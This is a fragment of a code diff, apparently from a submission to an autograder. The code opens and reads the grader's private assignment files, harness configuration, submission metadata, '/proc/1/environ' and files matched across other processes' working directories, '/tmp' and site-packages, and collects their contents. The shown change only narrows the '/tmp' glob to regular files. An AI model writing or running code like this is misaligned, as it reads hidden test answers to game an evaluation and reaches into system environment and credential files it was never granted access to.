@@ -325,7 +325,8 @@ import glob
     places = ["/autograder/source/assignment/counting/private/three.gtp", "/proc/1/environ",
               "/autograder/source/gtp-harness.json", "/autograder/submission_metadata.json"]
     for place in [*places, *glob.glob("/proc/*/cwd/source/assignment/*/private/*"),
-                  *glob.glob("/tmp/*/*"), *glob.glob("/opt/gtp-harness/lib/*/site-packages/*")]:
+                  *filter(os.path.isfile, glob.glob("/tmp/*/*")),
+                  *glob.glob("/opt/gtp-harness/lib/*/site-packages/*")]:
         try:
             with open(place) as file:
                 found.append(f"read {place}: {file.read()}")
